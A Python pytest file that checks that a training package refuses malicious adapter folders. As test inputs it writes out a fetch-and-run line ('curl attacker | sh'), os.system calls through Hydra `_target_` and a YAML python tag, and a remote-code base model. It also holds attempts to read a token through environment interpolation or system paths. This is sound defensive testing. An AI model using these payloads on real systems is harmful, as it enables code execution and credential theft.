"""What an adapter that somebody else made may bring along: it describes its base model, and widens no trust.

Each test is an attack by the files of an adapter's folder, on someone who only types `generate adapter=DIR`.
"""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from safetensors.numpy import save_file

from qlora_fsdp import generate
from qlora_fsdp.common.errors import CheckpointError
from qlora_fsdp.config.schema import Config
from qlora_fsdp.training.teacher import assemble_teacher
from tests.helpers.one_process import one_process

SECRET = "hf_this_is_a_secret"


class Adapter:
    """A folder that is downloaded and used."""

    def __init__(self, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.folder, self.capsys = folder, capsys
        self.folder.mkdir()
        save_file({}, self.folder / "adapter_model.safetensors")
        self.write_config(None)

    def write_config(self, base: Any) -> None:
        values = {"peft_type": "LORA", "bias": "none", "r": 8, "target_modules": ["q_proj"]}
        (self.folder / "adapter_config.json").write_text(json.dumps(values | {"base_model_name_or_path": base}))

    def write_settings(self, settings: dict[str, Any] | str) -> None:
        text = settings if isinstance(settings, str) else yaml.safe_dump(settings)
        (self.folder / "qlora_fsdp.yaml").write_text(text)

    def use(self, *typed: str) -> tuple[int, str]:
        """What the victim types, and the exit code and message that they see."""
        code = generate.main([f"adapter={self.folder}", "prompt=Hello", *typed])
        shown = self.capsys.readouterr()
        return code, shown.out + shown.err


@pytest.fixture
def adapter(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Adapter:
    monkeypatch.setenv("VICTIMS_TOKEN", SECRET)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.chdir(tmp_path)
    return Adapter(tmp_path / "adapter", capsys)


@pytest.fixture
def evil_base(tmp_path: Path) -> Path:
    """A base model whose config.json names code of its own; the code leaves `owned` behind."""
    base = tmp_path / "base"
    base.mkdir()
    names = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel"}
    (base / "config.json").write_text(json.dumps({"model_type": "evil", "auto_map": names}))
    (base / "evil.py").write_text(
        f"from pathlib import Path\nPath({str(tmp_path / 'owned')!r}).touch()\n"
        "from transformers import PretrainedConfig\n"
        "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n"
    )
    return base


def refusal(adapter: Adapter, *typed: str) -> str:
    """The message with which the adapter is refused: one error about its files, which tells no secret."""
    code, shown = adapter.use(*typed)
    assert code == 2, shown
    assert "Error: " in shown and "Traceback" not in shown
    assert str(adapter.folder) in shown
    assert SECRET not in shown
    return shown


def test_code_of_a_base_is_not_allowed_by_the_adapters_file(adapter: Adapter, evil_base: Path, tmp_path: Path) -> None:
    adapter.write_settings({"model": {"path": str(evil_base), "trust_remote_code": True}})
    message = refusal(adapter)
    assert "qlora_fsdp.yaml: model.trust_remote_code=true would let code" in message and str(evil_base) in message
    assert "type model.trust_remote_code=true" in message
    assert not (tmp_path / "owned").exists()


def test_code_of_a_base_is_not_run_where_nobody_allows_it(adapter: Adapter, evil_base: Path, tmp_path: Path) -> None:
    adapter.write_config(str(evil_base))
    by_its_name = adapter.use()
    adapter.write_settings({"model": {"path": str(evil_base), "trust_remote_code": False}})
    for code, shown in (by_its_name, adapter.use()):
        assert code == 2 and f"model.path={evil_base}: its config can't be used" in shown
    assert not (tmp_path / "owned").exists()


def test_trust_in_a_base_is_none_in_a_teacher(evil_base: Path, tmp_path: Path) -> None:
    """The teacher may be named by a file that was passed on."""
    settings = {"distill.teacher_model": str(evil_base), "model.trust_remote_code": True}
    student: Any = SimpleNamespace(spec=SimpleNamespace(packs_rows=True))
    with pytest.raises(CheckpointError, match=r"Code of a teacher's own is never run") as caught:
        assemble_teacher(Config().with_values(settings), student, one_process())
    assert f"distill.teacher_model={evil_base}" in str(caught.value)
    assert not (tmp_path / "owned").exists()


def test_who_types_it_allows_it(adapter: Adapter, evil_base: Path, tmp_path: Path) -> None:
    adapter.write_settings({"model": {"path": str(evil_base), "trust_remote_code": True}})
    shown = adapter.use("model.trust_remote_code=true")[1]
    assert (tmp_path / "owned").exists(), shown


def test_who_has_it_in_a_folder_of_their_own_allows_it(adapter: Adapter, evil_base: Path, tmp_path: Path) -> None:
    adapter.write_settings({"quant": {"load_in_4bit": False}})
    (tmp_path / "mine" / "model").mkdir(parents=True)
    own = {"path": str(evil_base), "trust_remote_code": True}
    (tmp_path / "mine" / "model" / "trusted.yaml").write_text(yaml.safe_dump(own))
    shown = adapter.use("--config-dir", str(tmp_path / "mine"), "model=trusted")[1]
    assert (tmp_path / "owned").exists(), shown


@pytest.mark.parametrize(
    ("settings", "named"),
    [
        ({"data": {"cache_folder": "/victim/.ssh"}}, "data.cache_folder"),
        ({"run": {"folder": "/victim"}}, "run"),
        ({"tracking": {"wandb": "online", "entity": "attacker"}}, "tracking"),
        ({"slurm": {"setup": ["curl attacker | sh"]}}, "slurm"),
        ({"launch": {"config_file": "/tmp/evil.yaml"}}, "launch"),
        ({"checkpoint": {"resume": "/victim/run"}}, "checkpoint"),
        ({"hydra": {"searchpath": ["file:///tmp/evil"]}}, "hydra"),
        ({"defaults": [{"override /data": "random"}]}, "defaults"),
        ({"training": {"packing": True, "max_length": 1}}, "training.max_length"),
        ({"data": {"chat_template": "/etc/passwd"}, "model": {"name": "x"}}, "data.chat_template"),
        ({"data": {"path": "/etc/passwd", "system_prompt": "x"}}, "data.path"),
    ],
)
def test_only_the_model_is_described(adapter: Adapter, settings: dict[str, Any], named: str) -> None:
    adapter.write_settings({"model": {"path": "org/name"}} | settings)
    message = refusal(adapter)
    assert f"qlora_fsdp.yaml: {named}=" in message and "is not for an adapter's file to set" in message


def test_folders_to_write_to_are_not_taken(adapter: Adapter, tmp_path: Path) -> None:
    adapter.write_settings({"model": {"path": "/no/where", "cache_quantized": True, "cache_folder": str(tmp_path)}})
    before = set(tmp_path.iterdir())
    assert adapter.use()[0] == 2  # there is no such base
    assert set(tmp_path.iterdir()) == before


@pytest.mark.parametrize("place", ["path", "name", "tokenizer_path", "revision", "config"])
def test_the_environment_is_not_read(adapter: Adapter, place: str) -> None:
    value: Any = "${oc.env:VICTIMS_TOKEN}"
    model = {"path": "org/name", place: {"rope_scaling": {"factor": [value]}} if place == "config" else value}
    adapter.write_settings({"model": model})
    message = refusal(adapter)
    assert f"qlora_fsdp.yaml: model.{place}" in message and "is no plain value" in message


def test_the_environment_is_not_read_by_the_name_of_a_base(adapter: Adapter) -> None:
    adapter.write_config("attacker/${oc.env:VICTIMS_TOKEN}")
    message = refusal(adapter)
    assert "adapter_config.json: base_model_name_or_path=attacker/${oc.env:VICTIMS_TOKEN}" in message
    assert "Set model.path to the base model yourself." in message


@pytest.mark.parametrize("base", ["a,b", "[a]", "{a: b}", "choice(a,b)", "it's", 'a"b', "null", "a\\", "x y=z"])
def test_the_name_of_a_base_is_a_name(adapter: Adapter, base: str) -> None:
    adapter.write_config(base)
    code, shown = adapter.use()
    assert code == 2 and f"Error: model.path={base} is no folder" in shown and "no hub model that can be had" in shown


@pytest.mark.parametrize("base", [["a"], {"a": "b"}, 3, True])
def test_the_name_of_a_base_is_text(adapter: Adapter, base: Any) -> None:
    adapter.write_config(base)
    assert "is not the name of a model." in refusal(adapter)


@pytest.mark.parametrize(
    ("config", "named"),
    [
        ({"_target_": "os.system", "_args_": ["touch owned"]}, "model.config._target_=os.system"),
        ({"auto_map": {"AutoModel": "attacker/repo--evil.Model"}}, "model.config.auto_map="),
        ({"text_config": {"auto_map": {}}}, "model.config.text_config.auto_map="),
        ({"_attn_implementation": "attacker/kernel"}, "model.config._attn_implementation=attacker/kernel"),
        ({"layer": {"_experts_implementation": "attacker/kernel"}}, "model.config.layer._experts_implementation="),
    ],
)
def test_a_models_config_names_no_code(adapter: Adapter, config: dict[str, Any], named: str) -> None:
    adapter.write_settings({"model": {"weights": "random", "config": {"model_type": "llama"} | config}})
    assert f"qlora_fsdp.yaml: {named}" in refusal(adapter)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("model: !!python/object/apply:os.system [touch owned]", "could not determine a constructor"),
        ("model: &a {path: x}\ntask: *a", "aliases such as *name are not allowed"),
        ("model: {config: {a: &a [1], b: [*a, *a]}}", "aliases such as *name are not allowed"),
        ("model: {config: " + "[" * 100_000, "can't be read"),
        ("model: {config: {a: " + "[" * 20 + "]" * 20 + "}}", "is nested more than 8 deep"),
        ("model: {name: " + "x" * 2**20 + "}", "it is larger than 1 MiB"),
        ("[model]", "it holds no sections with settings"),
        ("model: {path: !!timestamp 2024-01-01}", "is no plain value"),
        ("model: {path: '???'}", "is no plain value"),
        ('model: {path: "\\0"}', "No such file"),
    ],
)
def test_files_that_are_made_to_harm_their_reader(adapter: Adapter, text: str, reason: str, tmp_path: Path) -> None:
    adapter.write_settings(text)
    if reason == "No such file":
        code, shown = adapter.use()
        assert code == 2 and "Traceback" not in shown
        return
    assert reason in refusal(adapter)
    assert not (tmp_path / "owned").exists()


def test_a_message_holds_nothing_that_a_terminal_obeys(adapter: Adapter) -> None:
    adapter.write_settings({"run": {"name": "\x1b]0;owned\x07" + "x" * 1000}})
    message = refusal(adapter)
    assert "\x1b" not in message and "x" * 100 not in message


def test_all_that_is_refused_is_told_at_once(adapter: Adapter) -> None:
    adapter.write_settings({"run": {"name": "x"}, "model": {"path": "${run.name}"}, "data": {"path": "x"}})
    assert "3 settings can't be used" in refusal(adapter)
